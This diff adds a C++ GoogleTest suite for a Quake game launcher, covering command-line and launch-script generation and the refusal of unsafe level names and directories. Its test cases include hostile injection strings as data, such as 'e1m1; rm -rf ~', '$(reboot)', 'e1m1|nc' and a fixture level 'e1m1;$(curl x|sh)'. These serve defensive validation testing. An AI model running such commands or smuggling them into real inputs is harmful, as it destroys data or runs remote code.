@@ -1,0 +1,284 @@
+// The engine command line, both launch script flavours, the launch checks and StartGame.
+#include <gtest/gtest.h>
+
+#include <filesystem>
+
+#include "GameLaunch.h"
+#include "TestSupport.h"
+
+namespace kovar::test {
+namespace {
+
+LaunchChoices Choices(std::string engine, std::string mapSelection, std::string mapLevel,
+                      std::string customParams, std::string quakeDir = "C:\\Quake") {
+  return {std::move(engine), std::move(mapSelection), std::move(mapLevel), std::move(customParams),
+          std::move(quakeDir)};
+}
+
+TEST(EngineCommandLine, FollowsTheFixedOrderByteForByte) {
+  // The documented example.
+  EXPECT_EQ(EngineCommandLine(Choices("GLQuake.exe", "castle", "e1m1", "")),
+            "GLQuake.exe +map e1m1 -game kv +r_shadows 0 +r_mirroralpha 1");
+  // No map and no GL suffix: the line ends with the space after the custom parameters.
+  EXPECT_EQ(EngineCommandLine(Choices("WinQuake.exe", "", "e1m1", "+skill 2")),
+            "WinQuake.exe -game kv +skill 2 ");
+  EXPECT_EQ(EngineCommandLine(Choices("VQuake.exe", "", "", "")), "VQuake.exe -game kv ");
+  // The GL test is exact and case-sensitive.
+  EXPECT_EQ(EngineCommandLine(Choices("glquake.exe", "", "", "")), "glquake.exe -game kv ");
+  EXPECT_EQ(EngineCommandLine(Choices("LucidGL.exe ", "", "", "")), "LucidGL.exe  -game kv ");
+  // A selected map with an empty level name leaves two spaces after "+map".
+  EXPECT_EQ(EngineCommandLine(Choices("LucidGL.exe", "castle", "", "")),
+            "LucidGL.exe +map  -game kv +r_shadows 0 +r_mirroralpha 1");
+  // The custom parameters and a level's trailing spaces arrive exactly as they were.
+  EXPECT_EQ(EngineCommandLine(Choices("Quake.exe", "x", "e2m3  ", "-width 640  +fov 110 \"a b\"")),
+            "Quake.exe +map e2m3   -game kv -width 640  +fov 110 \"a b\" ");
+  // Without a selected map the level is not passed, whatever it is.
+  EXPECT_EQ(EngineCommandLine(Choices("Quake.exe", "", "e1m1; rm", "")), "Quake.exe -game kv ");
+}
+
+TEST(LaunchScript, WindowsIsThreeLinesWithCrLf) {
+  EXPECT_EQ(WindowsLaunchScript(Choices("GLQuake.exe", "castle", "e1m1", "")),
+            "C:\r\ncd\\Quake\r\nGLQuake.exe +map e1m1 -game kv +r_shadows 0 +r_mirroralpha 1\r\n");
+  // A bare drive leaves "cd" alone on its line.
+  EXPECT_EQ(WindowsLaunchScript(Choices("WinQuake.exe", "", "", "+skill 2", "D:")),
+            "D:\r\ncd\r\nWinQuake.exe -game kv +skill 2 \r\n");
+  EXPECT_EQ(LaunchScriptName(ScriptFlavour::Windows), std::string("run.bat"));
+  EXPECT_EQ(LaunchScriptName(ScriptFlavour::Linux), std::string("run.sh"));
+}
+
+TEST(LaunchScript, LinuxQuotesTheDirectoryAndRunsALocalEngineFromIt) {
+  const std::string cdLine =
+      "cd -- '/home/p/My Quake/it'\\''s $HOME `x` \"q\"' || { printf '%s\\n' 'Kovar Launcher "
+      "could not enter the Quake directory:' '/home/p/My Quake/it'\\''s $HOME `x` \"q\"' 'Set it "
+      "with \"Set Quake Directory\" in the Tools menu.' >&2; [ -t 0 ] && sleep 15; exit 1; }\n";
+  const LaunchChoices choices =
+      Choices("LucidGL.exe", "castle", "e1m1", "+skill 2", "/home/p/My Quake/it's $HOME `x` \"q\"");
+  EXPECT_EQ(LinuxLaunchScript(choices, true),
+            "#!/bin/sh\n" + cdLine +
+                "./LucidGL.exe +map e1m1 -game kv +skill 2 +r_shadows 0 +r_mirroralpha 1\n");
+  // An engine not found in the Quake directory stands as typed, for the shell to look up.
+  EXPECT_EQ(LinuxLaunchScript(Choices("quake -nosound", "", "", "", "/q"), false),
+            "#!/bin/sh\ncd -- '/q' || { printf '%s\\n' 'Kovar Launcher could not enter the Quake "
+            "directory:' '/q' 'Set it with \"Set Quake Directory\" in the Tools menu.' >&2; "
+            "[ -t 0 ] && sleep 15; exit 1; }\nquake -nosound -game kv \n");
+
+  EXPECT_TRUE(IsBareFileName("LucidGL.exe"));
+  EXPECT_FALSE(IsBareFileName("bin/quake"));
+  EXPECT_FALSE(IsBareFileName("/usr/games/quake"));
+  EXPECT_FALSE(IsBareFileName(""));
+  EXPECT_FALSE(IsBareFileName(".."));
+}
+
+TEST(LevelName, AcceptsPlainNamesWithTrailingSpaces) {
+  for (const std::string& level :
+       std::vector<std::string>{"", "e1m1", "E1M1", "start", "kv_castle-2.b", "maps/e1m1",
+                                "e1m1   ", std::string(64, 'a'), std::string(64, 'a') + "  "}) {
+    EXPECT_EQ(LevelNameProblem(level), "") << level;
+  }
+}
+
+TEST(LevelName, RefusesAnythingAShellCouldReadAsMore) {
+  const struct {
+    std::string level;
+    std::string why;
+  } cases[] = {
+      {"e1m1; rm -rf ~", "it holds the character \";\""},
+      {"e1m1&calc", "it holds the character \"&\""},
+      {"e1m1|nc", "it holds the character \"|\""},
+      {"$(touch x)", "it holds the character \"$\""},
+      {"`id`", "it holds the character \"`\""},
+      {"'e1m1'", "it holds the character \"'\""},
+      {"\"e1m1\"", "it holds the character '\"'"},
+      {"%COMSPEC%", "it holds the character \"%\""},
+      {"e1m1 e1m2", "it holds a space"},
+      {" e1m1", "it holds a space"},
+      {"e1m1\t", "it holds the byte 0x09"},
+      {"e1m1\r", "it holds the byte 0x0D"},
+      {std::string("e1\0m1", 5), "it holds the byte 0x00"},
+      {"e\xe9m1", "it holds the byte 0xE9"},
+      {"-game", "it begins with \"-\""},
+      {"+quit", "it begins with \"+\""},
+      {"../../etc", "it holds \"..\""},
+      {"a..b", "it holds \"..\""},
+      {"   ", "it consists of spaces only"},
+      {std::string(65, 'a'), "it is longer than 64 characters"},
+  };
+  for (const auto& c : cases) EXPECT_EQ(LevelNameProblem(c.level), c.why) << c.level;
+}
+
+TEST(LaunchRefusal, QuakeDirectoryMustBeSet) {
+  for (ScriptFlavour flavour : {ScriptFlavour::Windows, ScriptFlavour::Linux}) {
+    for (const char* dir : {"", "C"}) {
+      const std::string refusal = LaunchRefusal(Choices("LucidGL.exe", "", "", "", dir), flavour);
+      EXPECT_NE(refusal.find("Set it first with \"Set Quake Directory\" in the Tools menu."),
+                std::string::npos)
+          << refusal;
+    }
+  }
+  // On Windows the first line would otherwise run whatever its first two characters name.
+  for (const char* dir : {"Quake", "\\\\server\\quake", "1:\\Quake", "&:\\x"}) {
+    const std::string refusal =
+        LaunchRefusal(Choices("LucidGL.exe", "", "", "", dir), ScriptFlavour::Windows);
+    EXPECT_NE(refusal.find("drive letter"), std::string::npos) << dir;
+    EXPECT_NE(refusal.find(dir), std::string::npos) << dir;
+  }
+  EXPECT_EQ(LaunchRefusal(Choices("Quake.exe", "", "", "", "D:"), ScriptFlavour::Windows), "");
+  EXPECT_EQ(LaunchRefusal(Choices("Quake.exe", "", "", "", "quake"), ScriptFlavour::Linux), "");
+}
+
+TEST(LaunchRefusal, NoValueMayAddALine) {
+  for (const std::string& bad : std::vector<std::string>{"a\rb", "a\nb", std::string("a\0b", 3)}) {
+    LaunchChoices engine = Choices(bad, "", "", "");
+    LaunchChoices params = Choices("Quake.exe", "", "", "+skill 1" + bad);
+    LaunchChoices dir = Choices("Quake.exe", "", "", "", "C:\\Quake" + bad);
+    EXPECT_NE(LaunchRefusal(engine, ScriptFlavour::Windows).find("the engine text holds a line"),
+              std::string::npos);
+    EXPECT_NE(LaunchRefusal(params, ScriptFlavour::Linux).find("the custom parameters text"),
+              std::string::npos);
+    EXPECT_NE(LaunchRefusal(dir, ScriptFlavour::Windows).find("the Quake directory text"),
+              std::string::npos);
+  }
+}
+
+TEST(LaunchRefusal, NamesTheMapOfABadOrFailedLevel) {
+  LaunchChoices bad = Choices("Quake.exe", "castle", "e1m1 & del *.*", "");
+  EXPECT_EQ(LaunchRefusal(bad, ScriptFlavour::Windows),
+            "The game was not started: the map \"castle\" has the level name \"e1m1 & del *.*\", "
+            "which is not a plain level name: it holds a space. Only level names of letters, "
+            "digits and _ - . / are passed to the game.");
+  // Control bytes and overlong names are not put into the message as they are.
+  bad.mapLevel = "e1m1\x1b[2J" + std::string(200, 'x');
+  const std::string refusal = LaunchRefusal(bad, ScriptFlavour::Linux);
+  EXPECT_EQ(refusal.find('\x1b'), std::string::npos);
+  EXPECT_LT(refusal.size(), 300u);
+
+  LaunchChoices failed = Choices("Quake.exe", "ruins", "", "");
+  failed.mapLoadFailed = true;
+  EXPECT_NE(
+      LaunchRefusal(failed, ScriptFlavour::Linux).find("the map \"ruins\" could not be loaded"),
+      std::string::npos);
+  // Without a selected map neither the level nor an old failure matters.
+  failed.mapSelection.clear();
+  failed.mapLevel = "$(reboot)";
+  EXPECT_EQ(LaunchRefusal(failed, ScriptFlavour::Linux), "");
+}
+
+// StartGame over a temporary application directory: the native flavour only.
+struct StartGameTest : ::testing::Test {
+  StartGameTest() {
+    f.dir.Write("data/castle.kvx", "e1m1\r\nA castle.\r\n");
+    f.dir.Write("data/castle.bmp", MakeBmp(4, 4));
+    f.state.SetText(TextField::QuakeDir, quakeDir);
+  }
+  std::string ScriptPath() const { return f.dir.File(LaunchScriptName(kNativeFlavour)); }
+  std::string Script() const { return f.dir.Read(LaunchScriptName(kNativeFlavour)); }
+  // The native script's directory lines followed by the command line `line`.
+  std::string ExpectedScript(const std::string& line) const {
+    if (kNativeFlavour == ScriptFlavour::Windows) return "C:\r\ncd\\Quake\r\n" + line + "\r\n";
+    const std::string script = LinuxLaunchScript(Choices("x", "", "", "", quakeDir), false);
+    return script.substr(0, script.find('\n', script.find('\n') + 1) + 1) + line + "\n";
+  }
+
+#ifdef _WIN32
+  const std::string quakeDir = "C:\\Quake";
+#else
+  const std::string quakeDir = "/nonexistent/quake";
+#endif
+  Fixture f;
+};
+
+TEST_F(StartGameTest, WritesTheScriptAndStartsIt) {
+  f.launcher.RunCommand("map castle");
+  f.launcher.RunCommand("cpar +skill 2");
+  EXPECT_FALSE(f.launcher.StartGame());
+  EXPECT_EQ(f.platform.started, std::vector<std::string>{ScriptPath()});
+  EXPECT_TRUE(f.platform.errors.empty());
+  EXPECT_EQ(Script(), ExpectedScript("LucidGL.exe +map e1m1 -game kv +skill 2 +r_shadows 0 "
+                                     "+r_mirroralpha 1"));
+#ifndef _WIN32
+  EXPECT_NE(
+      std::filesystem::status(ScriptPath()).permissions() & std::filesystem::perms::owner_exec,
+      std::filesystem::perms::none);
+#endif
+  // Every launch writes the script anew and starts another game.
+  f.state.SetText(TextField::EngineText, "WinQuake.exe");
+  f.state.SetText(TextField::MapSelection, "");
+  EXPECT_FALSE(f.launcher.StartGame());
+  EXPECT_EQ(f.platform.started.size(), 2u);
+  EXPECT_EQ(Script(), ExpectedScript("WinQuake.exe -game kv +skill 2 "));
+  // No temporary file is left behind.
+  EXPECT_EQ(std::distance(std::filesystem::directory_iterator(f.dir.Path()), {}), 2);
+}
+
+TEST_F(StartGameTest, TypingAnotherMapNameKeepsTheLoadedLevel) {
+  f.launcher.RunCommand("map castle");
+  f.state.SetText(TextField::MapSelection, "somewhere else");
+  f.state.SetText(TextField::EngineText, "Quake.exe");
+  EXPECT_FALSE(f.launcher.StartGame());
+  EXPECT_EQ(Script(), ExpectedScript("Quake.exe +map e1m1 -game kv "));
+}
+
+TEST_F(StartGameTest, RefusalsWriteAndStartNothing) {
+  f.dir.Write(LaunchScriptName(kNativeFlavour), "old script");
+  f.dir.Write("data/evil.kvx", "e1m1;$(curl x|sh)\r\nLooks harmless.\r\n");
+  f.dir.Write("data/broken.kvx", "only one line\r\n");
+
+  f.launcher.RunCommand("map evil");
+  f.platform.errors.clear();
+  EXPECT_TRUE(f.launcher.StartGame());
+  ASSERT_EQ(f.platform.errors.size(), 1u);
+  EXPECT_NE(f.platform.errors[0].find("the map \"evil\""), std::string::npos);
+
+  f.launcher.RunCommand("map broken");
+  f.platform.errors.clear();
+  EXPECT_TRUE(f.launcher.StartGame());
+  ASSERT_EQ(f.platform.errors.size(), 1u);
+  EXPECT_NE(f.platform.errors[0].find("the map \"broken\" could not be loaded"), std::string::npos);
+
+  f.launcher.RunCommand("map castle");
+  f.state.SetText(TextField::QuakeDir, "");
+  EXPECT_TRUE(f.launcher.StartGame());
+  EXPECT_NE(f.platform.errors.back().find("\"Set Quake Directory\" in the Tools menu"),
+            std::string::npos);
+
+  EXPECT_TRUE(f.platform.started.empty());
+  EXPECT_EQ(Script(), "old script");
+}
+
+TEST_F(StartGameTest, WriteAndStartFailuresAreShownWithTheReason) {
+  // The application directory is a file: the script cannot be written there.
+  f.dir.Write("file", "");
+  FakePlatform platform;
+  Launcher launcher(f.dir.File("file"), platform);
+  launcher.State().SetText(TextField::QuakeDir, quakeDir);
+  EXPECT_TRUE(launcher.StartGame());
+  ASSERT_EQ(platform.errors.size(), 1u);
+  EXPECT_EQ(
+      platform.errors[0].rfind("Could not write the launch script \"" + f.dir.File("file"), 0), 0u)
+      << platform.errors[0];
+  EXPECT_NE(platform.errors[0].find("The old script was left as it was"), std::string::npos);
+  EXPECT_TRUE(platform.started.empty());
+
+  f.platform.startAnswer = "no shell here";
+  EXPECT_TRUE(f.launcher.StartGame());
+  EXPECT_EQ(f.platform.errors, std::vector<std::string>{"Could not start the launch script \"" +
+                                                        ScriptPath() + "\": no shell here."});
+}
+
+#ifndef _WIN32
+TEST_F(StartGameTest, LinuxRunsAnEngineFoundInTheQuakeDirectoryFromThere) {
+  TempDir quake;
+  quake.Write("LucidGL.exe", "");
+  f.state.SetText(TextField::QuakeDir, quake.Path());
+  EXPECT_FALSE(f.launcher.StartGame());
+  EXPECT_EQ(Script(), LinuxLaunchScript(Choices("LucidGL.exe", "", "", "", quake.Path()), true));
+  // A directory of the engine's name is not an engine.
+  f.state.SetText(TextField::EngineText, "kv");
+  quake.Write("kv/pak0.pak", "");
+  EXPECT_FALSE(f.launcher.StartGame());
+  EXPECT_EQ(Script(), LinuxLaunchScript(Choices("kv", "", "", "", quake.Path()), false));
+}
+#endif
+
+}  // namespace
+}  // namespace kovar::test
